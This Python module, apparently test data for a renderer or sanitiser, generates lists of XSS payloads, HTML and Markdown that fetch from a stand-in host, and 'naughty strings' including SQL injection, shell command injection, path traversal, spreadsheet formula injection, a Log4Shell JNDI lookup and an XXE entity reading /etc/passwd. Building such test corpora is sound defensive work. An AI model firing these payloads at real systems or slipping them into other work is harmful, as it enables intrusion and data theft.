"""Words that somebody hostile, or merely unusual, could write: HTML that would run, and strings that break programs."""

import unicodedata
from itertools import product

OUTSIDE = "outside.example"
HIT = "window.hit=1"

HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
)
ELEMENTS = (
    "<img src=x {h}={hit}>", "<svg {h}={hit}>", "<input autofocus {h}={hit}>", "<details open {h}={hit}>",
    "<body {h}={hit}>", "<video src=x {h}={hit}>",
)  # fmt: skip
BREAKOUTS = ('"', "'", "`", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</xmp>", "</template>", "</option></select>")  # fmt: skip
SCHEMES = (
    "javascript:{hit}", "JaVaScRiPt:{hit}", "java\tscript:{hit}", "java\nscript:{hit}", " javascript:{hit}",
    "&#106;avascript:{hit}", "\x01javascript:{hit}", "data:text/html,<script>{hit}</script>", "vbscript:{hit}",
    "//outside.example/x", "https:outside.example", "https://outside.example\\@here",
)  # fmt: skip
OTHERS = (
    "<scr<script>ipt>{hit}</scr</script>ipt>", "<script/x>{hit}</script>", "<SCRIPT>{hit}</SCRIPT>", "<script\x00>{hit}</script>",
    "\ufeff<script>{hit}</script>", "<svg><script>{hit}</script></svg>", "<math><mtext><style><img src=x onerror={hit}>",
    "<iframe srcdoc='<script>parent.{hit}</script>'>", "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>", "<style>@import 'https://outside.example/a.css'</style>",
    "<link rel=stylesheet href=https://outside.example/b.css>", "![x](https://outside.example/c.png)", "<img src=https://outside.example/d.png>",
    "<img srcset='https://outside.example/e.png 1x'>", "<base href=https://outside.example/>", "<object data=https://outside.example/f>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/g'>", "<form action=https://outside.example/h><button>x",
    "[x](javascript:{hit})", "<https://outside.example/i>", "https://outside.example/j", "www.outside.example", "$\\href{{javascript:{hit}}}{{x}}$",
    ":material/home: :red[x] :red-background[<b>{hit}</b>]", "{{{{7*7}}}}${{7*7}}<%= 7*7 %>", "&lt;script&gt;{hit}&lt;/script&gt;", "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    "<div style='background:url(https://outside.example/k)'>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{hit}</x:script>",
)  # fmt: skip


def html() -> list[str]:
    """HTML, Markdown and templates that would run something or fetch something from outside."""
    found = [element.format(h=handler, hit=HIT) for element, handler in product(ELEMENTS, HANDLERS)]
    found += [f"{breakout}><script>{HIT}</script><img src=x onerror={HIT}>" for breakout in BREAKOUTS]
    found += [f"<a href='{scheme.format(hit=HIT)}'>x</a>" for scheme in SCHEMES]
    return found + [other.format(hit=HIT) for other in OTHERS]


def naughty() -> list[str]:
    """Strings that programs stumble over: controls, directions, marks, emoji, numbers, code of other languages."""
    controls = [f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160))]
    spaces = [
        f"a{c}b"
        for c in map(chr, range(0x2000, 0x2070))
        if unicodedata.category(c) in ("Zs", "Cf", "Zl", "Zp")
    ]
    marks = [
        chr(code) * 30
        for code in (0x0300, 0x0351, 0x0489, 0x20DD, 0xFE0F, 0xFEFF, 0x3164, 0x115F, 0x2588, 0xFDFD)
    ]
    directions = [
        f"{c}gpj.exe{end}"
        for c in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
        for end in ("", "\u202c\u2069")
    ]
    scripts = [
        "שלום עליכם",
        "السلام عليكم",
        "田中さんにあげて下さい",
        "사회과학원",
        "ⅷⅨ½①",
        "ṲͥˢT",
        "ﬁﬂﬃ",
        "İıſß",
        "Ⱥ" * 20,
        "𐐜𐐔𐐇",
        "ﷺ",
        "ｔｅｓｔ",
    ]
    emoji = [
        "😍",
        "👩🏽",
        "👨‍🦰",
        "👾🙇💁🙅",
        "🇺🇸🇷🇺",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "1️⃣",
        "\U0010ffff",
        "\ue000",
        "👩‍👩‍👧‍👦" * 9,
    ]
    numbers = [
        "0",
        "-0",
        "1e309",
        "-1e-324",
        "NaN",
        "Infinity",
        "0x1F",
        "1_000",
        "٣",
        "1,5",
        "½",
        "9" * 100,
        "00:00",
        "2026-02-30",
    ]
    words = ["null", "undefined", "None", "true", "CON", "nul.txt", "../../etc/passwd", "..\\..\\x", "%00", "%0d%0aSet-Cookie: a=b", "a\r\nX: y", "\\0", "C:\\x", "~root", "-rf", "--help", "$(touch x)", "`id`", "; ls", "| cat", "&& id"]  # fmt: skip
    sql = ["'", "''", '"', ";", "--", "/*", "' OR '1'='1", "1; DROP TABLE check_in", "') UNION SELECT * FROM account --", "\\'; --", "%", "_", "' || x'00' || '", "1 AND 1=randomblob(9)"]  # fmt: skip
    sheets = [f"{lead}{tail}" for lead in ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠") for tail in ("1+1", "HYPERLINK(\"https://outside.example\")", "cmd|' /C calc'!A0")]  # fmt: skip
    code = ["{{config}}", "{% import os %}", "${jndi:ldap://outside.example/x}", "#{7*7}", "<%= 1 %>", "%s%s%n", "{0}", "{__class__}", "\\u0000", "&#0;", "&amp;lt;", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "__proto__", "a" * 490]  # fmt: skip
    nested = ["[" * 200, "(" * 200, "*" * 200, "_" * 200, "#" * 200, "> " * 100, "|" * 100 + "\n" + "-|" * 100, "`" * 200, ":" * 200, "$" * 200, "~" * 200, "- " * 100]  # fmt: skip
    doubled = [f"{mark}{word}{mark}" for mark in ("**", "__", "~~", "`", "$", "$$", ":") for word in ("x", "<b>x</b>", "https://outside.example/z", "material/home")]  # fmt: skip
    return (
        controls
        + spaces
        + marks
        + directions
        + scripts
        + emoji
        + numbers
        + words
        + sql
        + sheets
        + code
        + nested
        + doubled
    )


def addresses() -> list[str]:
    """What a renderer may make live: addresses with and without schemes, mail, icons, colours, arrows, formulas."""
    return [
        "https://outside.example/a", "http://outside.example", "www.outside.example", "see https://outside.example/b.",
        "(https://outside.example)", "HTTPS://OUTSIDE.EXAMPLE", "ann@outside.example", "mailto:ann@outside.example",
        "xmpp:ann@outside.example", "tel:+441632960000", "<https://outside.example>", "[x](https://outside.example)",
        "https://outside.example/ü", "a.https://outside.example", "https\\://outside.example", "&#104;ttps://outside.example",
        ":material/home: :smile: :red[x]", "$x^2$ -> <- >= --", "~~x~~ **x** _x_ `x`", "1. x", "# x",
    ]  # fmt: skip
